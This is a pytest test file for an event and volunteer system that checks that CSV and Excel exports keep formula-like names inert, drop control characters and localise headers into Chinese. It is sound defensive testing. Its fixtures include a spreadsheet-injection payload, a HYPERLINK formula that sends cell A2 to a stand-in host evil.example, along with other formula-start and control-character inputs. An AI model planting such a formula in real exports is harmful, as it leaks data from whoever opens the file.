"""CSV and Excel exports: names that look like formulas stay text, control characters
never break a file, and headers and values follow the reader's language."""

import csv
import io
import re
from datetime import timedelta

import pytest
from openpyxl import load_workbook
from werkzeug.http import parse_options_header

from eventsys.db_types import utcnow
from eventsys.extensions import db
from eventsys.models import Shift, ShiftSignup, VolunteerRole
from eventsys.services import registrations as reg
from eventsys.services import shifts

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"点我")'
ESCAPED = "王\x1b芳"
ASCII_WORD = re.compile(r"[A-Za-z]")


def _csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.data[:500]
    assert response.mimetype == "text/csv"
    assert response.data.startswith("\ufeff".encode()), "Excel needs the BOM for Chinese"
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))


def _sheet_rows(response) -> list[tuple]:
    assert response.status_code == 200, response.data[:500]
    sheet = load_workbook(io.BytesIO(response.data)).active
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"{cell.coordinate} is a live formula: {cell.value}"
    return list(sheet.iter_rows(values_only=True))


def _filename(response) -> str:
    value, options = parse_options_header(response.headers["Content-Disposition"])
    assert value == "attachment"
    return options["filename"]


def _inert_in_csv(value: str, original: str) -> bool:
    return value == "'" + original


def _inert_in_sheet(value: str, original: str) -> bool:
    # Written as text (never typed as a formula); a leading apostrophe is also inert.
    return value in (original, "'" + original)


@pytest.fixture
def hostile_event(make_event, make_user):
    event = make_event(title="江南园林")
    reg.register(event, make_user(display_name=FORMULA, phone="+8613800000000"), 2)
    reg.register(event, make_user(display_name=ESCAPED), 1, [], "@坐轮椅\x07")
    return event


@pytest.fixture
def hostile_shift(app, make_venue, make_user):
    """A past shift with two volunteers: one named like a formula, one with an ESC."""
    start = utcnow().replace(microsecond=0) - timedelta(days=2)
    shift = Shift(
        role=VolunteerRole(name="阅读指导"),
        venue=make_venue(),
        starts_at=start,
        ends_at=start + timedelta(hours=3),
        slots=3,
        filled=2,
    )
    db.session.add(shift)
    for name in (FORMULA, ESCAPED):
        volunteer = make_user("volunteer", display_name=name)
        db.session.add(
            ShiftSignup(
                shift=shift, user_id=volunteer.id, attendance="attended", credited_minutes=180
            )
        )
    db.session.commit()
    return shift


def test_registrations_csv_keeps_formula_names_inert_and_drops_control_characters(
    client_as, hostile_event
):
    response = client_as("staff").get(f"/staff/events/{hostile_event.id}/registrations.csv")

    rows = _csv_rows(response)
    names = [row[0] for row in rows[1:]]
    assert any(_inert_in_csv(name, FORMULA) for name in names), names
    assert "王芳" in names
    assert any(cell == "'+8613800000000" for row in rows for cell in row)
    assert not any("\x1b" in cell or "\x07" in cell for row in rows for cell in row)
    assert _filename(response) == f"registrations-event-{hostile_event.id}.csv"


def test_registrations_xlsx_with_an_esc_character_downloads_with_inert_formulas(
    client_as, hostile_event
):
    response = client_as("staff").get(f"/staff/events/{hostile_event.id}/registrations.xlsx")

    rows = _sheet_rows(response)
    names = [row[0] for row in rows[1:]]
    assert any(_inert_in_sheet(name, FORMULA) for name in names), names
    assert "王芳" in names
    assert _filename(response) == f"registrations-event-{hostile_event.id}.xlsx"


def test_roster_csv_keeps_formula_names_inert_and_drops_control_characters(
    client_as, hostile_shift
):
    response = client_as("staff").get(
        f"/volunteers/staff/roster?shift={hostile_shift.id}&format=csv"
    )

    rows = _csv_rows(response)
    names = {row[6] for row in rows[1:]}
    assert names == {"'" + FORMULA, "王芳"}
    assert rows[0][0] == "Date" and rows[1][9] == "Attended"  # words, not codes
    assert _filename(response).endswith(".csv")


def test_roster_xlsx_with_an_esc_character_downloads_with_inert_formulas(client_as, hostile_shift):
    response = client_as("staff").get(
        f"/volunteers/staff/roster?shift={hostile_shift.id}&format=xlsx"
    )

    rows = _sheet_rows(response)
    names = [row[6] for row in rows[1:]]
    assert any(_inert_in_sheet(name, FORMULA) for name in names), names
    assert "王芳" in names
    assert _filename(response).endswith(".xlsx")


def test_volunteer_report_exports_hours_with_inert_names(client_as, hostile_shift):
    staff = client_as("staff")
    day = shifts.local_day(hostile_shift.starts_at).isoformat()
    base = f"/volunteers/staff/reports?from={day}&to={day}"

    rows = _csv_rows(staff.get(base + "&format=csv"))
    assert ["'" + FORMULA, "3.0"] in rows and ["王芳", "3.0"] in rows
    book = staff.get(base + "&format=xlsx")
    assert book.status_code == 200
    values = [
        v for sheet in load_workbook(io.BytesIO(book.data)) for row in sheet.values for v in row
    ]
    assert "王芳" in values and any(_inert_in_sheet(v, FORMULA) for v in values if v)


def test_indicator_exports_keep_event_titles_inert(client_as, make_event):
    start = utcnow().replace(microsecond=0) - timedelta(days=1)
    make_event(title="=1+2\x1b讲座", starts_at=start)
    staff = client_as("staff")
    period = shifts.local_day(start).isoformat()
    url = f"/indicators/activities/events?start={period}&end={period}"

    rows = _csv_rows(staff.get(url + "&format=csv"))
    assert any("'=1+2讲座" in row for row in rows), rows
    sheet = _sheet_rows(staff.get(url + "&format=xlsx"))
    assert any(_inert_in_sheet(v, "=1+2讲座") for row in sheet for v in row if v), sheet


def _header_is_chinese(header) -> bool:
    return all(cell and not ASCII_WORD.search(str(cell)) for cell in header)


def test_export_headers_and_values_follow_the_readers_language(
    client_as, hostile_event, hostile_shift, make_event
):
    staff = client_as("staff", locale="zh_Hans")
    event_csv = _csv_rows(staff.get(f"/staff/events/{hostile_event.id}/registrations.csv"))
    event_sheet = _sheet_rows(staff.get(f"/staff/events/{hostile_event.id}/registrations.xlsx"))
    roster_csv = _csv_rows(
        staff.get(f"/volunteers/staff/roster?shift={hostile_shift.id}&format=csv")
    )
    roster_sheet = _sheet_rows(
        staff.get(f"/volunteers/staff/roster?shift={hostile_shift.id}&format=xlsx")
    )

    for header in (event_csv[0], event_sheet[0], roster_csv[0], roster_sheet[0]):
        assert _header_is_chinese(header), header
    assert event_csv[0][0] == "姓名" and roster_csv[0][0] == "日期"
    # Status, source and attendance as words of the reader's language, not stored codes.
    assert {row[5] for row in event_csv[1:]} == {"已确认"}
    assert {row[9] for row in event_csv[1:]} == {"线上"}
    assert {row[9] for row in roster_csv[1:]} == {"已出勤"}
    day = shifts.local_day(hostile_shift.starts_at).isoformat()
    report = _csv_rows(staff.get(f"/volunteers/staff/reports?from={day}&to={day}&format=csv"))
    assert ["每月服务时长"] in report and ["月份", "时长", "志愿者"] in report


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_inert_in_csv_and_excel(app, start):
    from eventsys.exports import Table, csv_text, xlsx_bytes

    text = f"{start}SUM(1+1)\x1b\x00"
    table = Table("=表\x1b", ["=名字", "人数"], [[text, -3]])

    rows = list(csv.reader(io.StringIO(csv_text([table], titles=False).lstrip("\ufeff"))))
    assert rows == [["'=名字", "人数"], ["'" + f"{start}SUM(1+1)", "-3"]]
    sheet = load_workbook(io.BytesIO(xlsx_bytes([table]))).active
    cell = sheet["A2"]
    # (XML reads a carriage return back as a line feed.)
    assert cell.data_type == "s" and cell.value == f"{start}SUM(1+1)".replace("\r", "\n")
    assert sheet["B2"].value == -3  # numbers stay numbers
    assert sheet["A1"].data_type == "s"


def test_download_names_survive_non_ascii(app):
    from eventsys.exports import content_disposition

    header = content_disposition("志愿者排班 2021.csv")
    value, options = parse_options_header(header)
    assert value == "attachment" and options["filename"] == "志愿者排班 2021.csv"
    assert 'filename="' in header and header.isascii()
